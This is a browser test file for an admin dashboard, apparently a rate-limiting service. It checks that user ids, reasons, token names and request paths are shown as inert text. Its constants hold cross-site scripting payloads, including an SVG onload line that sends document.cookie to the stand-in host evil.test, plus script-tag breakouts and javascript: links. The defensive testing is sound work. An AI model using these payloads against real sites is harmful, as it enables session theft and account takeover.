import { request } from 'node:http'
import { afterEach, beforeAll, expect, test } from 'vitest'
import { ask, open, page, SOON, show, stage, stageDashboard, turnTo } from './stage.ts'

/** What others choose and the page shows: written by whoever would like to run a script in an administrator's browser. */
const IMAGE = '<img src=x onerror="window.owned=1">'
const SCRIPT = '"\'><script>window.owned=1;alert(1)</script>'
const SVG = '<svg/onload=fetch("//evil.test/"+document.cookie)>'
const LINK = 'javascript:alert(1)//{user}$&'
const ROUTE = 'GET /<iframe/onload=window.owned=1>/:x'
/** Refused with markup as it stands; this is what is left of it. */
const PATHS = ["/'-alert(1)-'", '/%3Cimg%20src=x%20onerror=alert(1)%3E', '/%E2%80%AEgpj.exe']
const USERS = [IMAGE, SCRIPT, SVG, LINK]

stageDashboard({
  rest: `quota: { baselines: { personal: { read: { 1h: 10 } }, global: { read: { 1h: 1000 } } } }
routes:
  - { match: GET /items/*, category: read, cost: 4 }
  - { match: '${ROUTE}', category: read, cost: 1 }`,
})
beforeAll(async () => {
  await stage.api('POST', `/api/users/${encodeURIComponent(SCRIPT)}/reset`, { reason: IMAGE })
  for (const user of USERS) expect((await ask(stage.app.url, user)).status).toBe(200)
  expect((await ask(stage.app.url, IMAGE)).status).toBe(200)
  for (const path of PATHS) await sendRaw(stage.app.url, path)
  await stage.api('PUT', `/api/users/${encodeURIComponent(SVG)}/override`, { read: { '1h': 3 }, reason: SCRIPT })
  await stage.api('POST', '/api/tokens', { user: LINK, name: SVG })
})

afterEach(async () => {
  expect([...open.origins]).toEqual([stage.app.admin])
  expect(await page.evaluate('window.owned')).toBeUndefined()
  const active =
    'script, iframe, img, [onload], [onerror], a:not([href^="#/"], [href^="/api/usage?"], [href^="/api/audit?"], [href^="data:text/csv;"])'
  expect(await page.locator(`main :is(${active})`).count()).toBe(0)
})

/** As it stands, whatever it is. */
async function sendRaw(url: string, path: string): Promise<void> {
  const { hostname, port } = new URL(url)
  await new Promise<void>((resolve, reject) => {
    request({ hostname, port, path }, (response) => response.resume().on('end', resolve))
      .on('error', reject)
      .end()
  })
}

const text = () => page.locator('main').innerText()

test('in ids of users is text, in their list and on their own pages', async () => {
  await show('#/users')
  await expect
    .poll(async () => (await page.locator('[aria-label="Users"] th a').allInnerTexts()).sort(), SOON)
    .toEqual(USERS.toSorted())
  for (const user of USERS) {
    await page.locator('[aria-label="Users"] th a').filter({ hasText: user }).click()
    await expect.poll(() => page.locator('h1').innerText(), SOON).toBe(user)
    expect(await page.title()).toBe(`${user} · Tollgate`)
    await page.getByRole('row').nth(1).waitFor()
    await turnTo(page, 'Reset and data')
    await page.getByRole('button', { name: 'Reset windows' }).click()
    expect(await page.getByRole('dialog').innerText()).toContain(user)
    await page.keyboard.press('Escape')
    await page.getByRole('link', { name: 'All users' }).click()
  }
  await page.getByRole('searchbox').fill(`${IMAGE} $& {user}`)
  await page.getByRole('link', { name: `Open “${IMAGE} $& {user}”` }).waitFor()
})

test('in a reason is text, on the page of the user and in the audit', async () => {
  await show(`#/users/${encodeURIComponent(SVG)}?part=override`)
  await page.getByText(`In force: ${SCRIPT}`).waitFor()
  await page.getByRole('link', { name: 'Audit' }).click()
  await expect.poll(text, SOON).toContain(`an override for ${SVG}`)
  for (const written of [SCRIPT, IMAGE, `emptied the windows of ${SCRIPT}`]) expect(await text()).toContain(written)
})

test('in a preview is text', async () => {
  await show('#/limits')
  await page.getByRole('radio', { name: 'Conservative' }).check()
  await page.getByRole('button', { name: 'Preview', exact: true }).click()
  const row = page.getByRole('row').filter({ hasText: 'newly blocked' })
  await expect.poll(() => row.getByRole('link').allInnerTexts(), SOON).toEqual([IMAGE])
})

test('in names of tokens is text', async () => {
  await show('#/keys')
  const row = page.getByRole('row').nth(1)
  await expect.poll(() => row.innerText(), SOON).toContain(SVG)
  expect(await row.innerText()).toContain(LINK)
  await page.getByRole('button', { name: `Revoke ${SVG} of ${LINK}` }).click()
  expect(await page.getByRole('dialog').innerText()).toContain(`Revoke ${SVG} of ${LINK}`)
})

test('in routes and in paths that matched nothing is text', async () => {
  await show('#/routes')
  await expect.poll(text, SOON).toContain(ROUTE)
  await expect
    .poll(() => page.locator('.latest code').allInnerTexts(), SOON)
    .toEqual(PATHS.map((path) => `GET ${path}`).toReversed())
})

test('characters of an id that cannot be seen are shown by their numbers', async () => {
  const twins = { '\u202eecila': '⟨U+202E⟩ecila', 'ali\u200bce': 'ali⟨U+200B⟩ce' }
  for (const user of Object.keys(twins)) expect((await ask(stage.app.url, user)).status).toBe(200)
  await show('#/users')
  for (const [user, shown] of Object.entries(twins)) {
    await page.getByRole('link', { name: shown, exact: true }).click()
    await expect.poll(() => page.locator('h1').innerText(), SOON).toBe(shown)
    expect(await page.title()).toBe(`${shown} · Tollgate`)
    expect(new URL(page.url()).hash).toBe(`#/users/${encodeURIComponent(user)}`)
    await turnTo(page, 'Reset and data')
    await page.getByRole('button', { name: 'Reset windows' }).click()
    await page.getByRole('dialog').getByText(`Reset: ${shown}`).waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('link', { name: 'All users' }).click()
  }
})
